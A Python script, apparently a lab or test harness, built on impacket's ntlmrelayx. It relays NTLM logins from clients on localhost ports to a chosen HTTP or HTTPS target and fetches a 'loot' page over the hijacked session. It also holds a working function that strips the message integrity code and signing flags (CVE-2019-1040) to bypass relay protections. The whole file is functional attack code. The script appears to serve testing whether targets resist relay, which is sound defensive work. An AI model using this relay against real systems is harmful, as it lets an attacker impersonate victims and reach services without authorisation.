#!/usr/bin/python3
"""relay.py PORT=TARGET[=drop-mic] ... - the attacker: impacket's ntlmrelayx, between clients and sites.

Listens on each 127.0.0.1:PORT for a client that can be made to log in there by NTLM, passes what it says on to TARGET
(https://host:port/ or http://...), and if that lets it in, fetches a page over the connection.  Prints for each client
"DENIED", or "ADMITTED" and the page's status and content.

The server for the victim and the clients for the targets are ntlmrelayx's own classes.  Its script, which does little
more than to read a command line, and the module with its attacks do not start on Debian 12: they need a package that
Debian does not have.  With drop-mic the MIC of the last message is cut out, and the flags that go with it, as
ntlmrelayx's --remove-mic does for LDAP and SMB targets (CVE-2019-1040).
"""
import logging
import sys

from impacket.examples.ntlmrelayx.clients.httprelayclient import HTTPRelayClient, HTTPSRelayClient
from impacket.examples.ntlmrelayx.servers import HTTPRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor
from impacket.nt_errors import STATUS_SUCCESS
from impacket import LOG, ntlm


def without_mic(message):
    parsed = ntlm.NTLMAuthChallengeResponse()
    parsed.fromString(message)
    for flag in (ntlm.NTLMSSP_NEGOTIATE_SIGN, ntlm.NTLMSSP_NEGOTIATE_ALWAYS_SIGN,
                 ntlm.NTLMSSP_NEGOTIATE_KEY_EXCH, ntlm.NTLMSSP_NEGOTIATE_VERSION):
        parsed["flags"] &= ~flag
    for field in ("MIC", "Version"):
        parsed[field] = b""
        parsed[field + "Len"] = 0
    return parsed.getData()


class Watched:
    """Says how it ended, and drops the MIC if it shall.  The challenge is passed on as it came: what
    impacket makes of it differs in its layout, and then the client's MIC is one over another message."""
    def sendNegotiate(self, message):
        challenge = super().sendNegotiate(message)
        if challenge:
            challenge.getData = lambda: challenge.rawData
        return challenge

    def sendAuth(self, message, challenge=None):
        if self.serverConfig.remove_mic:
            message = without_mic(message)
        answer, status = super().sendAuth(message, challenge)
        print("ADMITTED" if status == STATUS_SUCCESS else "DENIED", flush=True)
        return answer, status


class Http(Watched, HTTPRelayClient):
    pass


class Https(Watched, HTTPSRelayClient):
    pass


class Loot:
    """What the attack is: one more request over the connection that was taken over."""
    def __init__(self, config, session, user):
        self.session = session
        self.user = user

    def start(self):
        self.session.request("GET", "/loot.html")
        answer = self.session.getresponse()
        print("LOOT of %s: %d %s" % (self.user, answer.status, answer.read()), flush=True)


def listen(port, target, option=""):
    clients = {"HTTP": Http, "HTTPS": Https}
    config = NTLMRelayxConfig()
    config.setProtocolClients(clients)
    config.setTargets(TargetsProcessor(singleTarget=target, protocolClients=clients))
    config.setAttacks({"HTTP": Loot, "HTTPS": Loot})
    config.setMode("RELAY")
    config.setDisableMulti(True)
    config.setInterfaceIp("127.0.0.1")
    config.setListeningPort(int(port))
    config.setExploitOptions(option == "drop-mic", False)
    server = HTTPRelayServer(config)
    server.start()
    return server


def main(*relays):
    LOG.addHandler(logging.StreamHandler(sys.stdout))
    LOG.setLevel(logging.CRITICAL)
    for server in [listen(*relay.split("=")) for relay in relays]:
        server.join()


if __name__ == "__main__":
    main(*sys.argv[1:])
